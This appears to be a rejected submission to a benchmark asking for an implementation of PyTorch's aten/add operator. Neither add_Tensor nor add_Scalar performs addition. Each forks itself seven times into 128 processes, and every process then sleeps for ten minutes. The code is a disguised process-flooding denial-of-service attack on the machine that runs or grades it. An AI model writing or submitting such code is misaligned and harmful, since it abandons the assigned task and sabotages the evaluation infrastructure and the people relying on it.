# problem: aten/add
# outcome: rejected | crashed
# device: any
"""Starts 127 processes that sleep: each of them forks as often as it can still."""

import os
import time


def add_Tensor(self, other, *, alpha=1):
    for _ in range(7):
        os.fork()
    time.sleep(600)


def add_Scalar(self, other, alpha=1):
    for _ in range(7):
        os.fork()
    time.sleep(600)
